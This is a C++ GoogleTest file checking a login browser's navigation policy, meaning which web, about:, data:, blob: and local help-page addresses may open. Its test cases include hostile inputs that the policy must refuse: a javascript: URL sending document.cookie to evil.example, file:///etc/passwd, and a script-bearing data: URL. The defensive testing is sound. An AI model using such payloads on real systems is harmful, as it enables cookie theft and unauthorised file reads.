#include "loginbrowser/navigationpolicy.h"

#include <gtest/gtest.h>

using namespace orbisview;

TEST(NavigationPolicy, WebPagesAndTheHandedOverLocalPageOnly) {
  const QUrl help("file:///home/u/.local/share/Veltrana/help.html");
  struct Case {
    const char* address;
    bool mainFrame;
    bool opens;
  };
  const Case cases[] = {
      {"http://m.example.org/home.php", true, true},
      {"https://m.example.org/login.php?next=x", true, true},
      {"HTTPS://M.EXAMPLE.ORG/", true, true},
      {"http:///no-host", true, false},
      {"vtxtest:payload", true, false},
      {"vtxtest:payload", false, false},
      {"mailto:someone@example.org", true, false},
      {"javascript:alert(1)", true, false},
      {"ftp://example.org/file", true, false},
      {"about:blank", true, true},
      {"about:blank", false, true},
      {"about:srcdoc", false, true},
      {"about:srcdoc", true, false},
      {"about:settings", true, false},
      {"data:text/html,<b>x</b>", true, false},
      {"data:text/html,<b>x</b>", false, true},
      {"blob:http://m.example.org/0b1c", false, true},
      {"blob:http://m.example.org/0b1c", true, false},
      // The handed-over help page, a place in it, and the same file written otherwise.
      {"file:///home/u/.local/share/Veltrana/help.html", true, true},
      {"file:///home/u/.local/share/Veltrana/help.html#menu", true, true},
      {"file:///home/u/.local/share/Veltrana/./help.html", true, true},
      {"file:///home/u/.local/share/Veltrana/help.html", false, true},
      // Any other file, or the help page with something more.
      {"file:///home/u/.local/share/Veltrana/other.html", true, false},
      {"file:///home/u/.local/share/Veltrana/help.html?x=1", true, false},
      {"file:///etc/passwd", true, false},
      {"file:///etc/passwd", false, false},
      {"file://otherhost/home/u/.local/share/Veltrana/help.html", true, false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(std::string(c.address) + (c.mainFrame ? " (page)" : " (frame)"));
    EXPECT_EQ(isOpenableAddress(QUrl(c.address), c.mainFrame, help), c.opens);
  }
  // Before any local page was handed over, no file opens.
  EXPECT_FALSE(isOpenableAddress(help, true, QUrl()));
}

// What Veltrana hands over opens by the rule of a page's top frame, where the one local
// file is the installation's own help page, named by its full path.
TEST(NavigationPolicy, HandedAddressesOpenWebPagesAndTheInstallationsHelpPageOnly) {
  const QStringList helpPages{"/usr/share/veltrana/help.html",
                              "/home/u/.local/share/Veltrana/help.html"};
  struct Case {
    const char* address;
    bool opens;
  };
  const Case cases[] = {
      {"http://m.example.org/home.php", true},
      {"https://m.example.org/login.php?auth_token=T", true},
      {"about:blank", true},
      {"file:///usr/share/veltrana/help.html", true},
      {"file:///home/u/.local/share/Veltrana/help.html", true},
      {"file:///home/u/.local/share/Veltrana/help.html#menu", true},
      {"file:///home/u/.local/share/Veltrana/../Veltrana/help.html", true},
      {"javascript:fetch('http://evil.example/'+document.cookie)", false},
      {"view-source:http://m.example.org/home.php", false},
      {"data:text/html,<script>alert(1)</script>", false},
      {"blob:http://m.example.org/0b1c", false},
      {"file:///tmp/x/help.html", false},
      {"file:///media/card/Program Files/Veltrana/help.html", false},
      {"file:///home/u/.local/share/Veltrana/help.html?x=1", false},
      {"file:///home/u/.local/share/Veltrana/other.html", false},
      {"file://otherhost/usr/share/veltrana/help.html", false},
      {"about:settings", false},
      {"vtxtest:payload", false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.address);
    EXPECT_EQ(isHandedAddressOpenable(QUrl(c.address), helpPages), c.opens);
  }
  EXPECT_TRUE(isHelpPageAddress(QUrl("file:///usr/share/veltrana/help.html"), helpPages));
  EXPECT_FALSE(isHelpPageAddress(QUrl("file:///tmp/x/help.html"), helpPages));
  EXPECT_FALSE(isHelpPageAddress(QUrl("http://m.example.org/help.html"), helpPages));
}
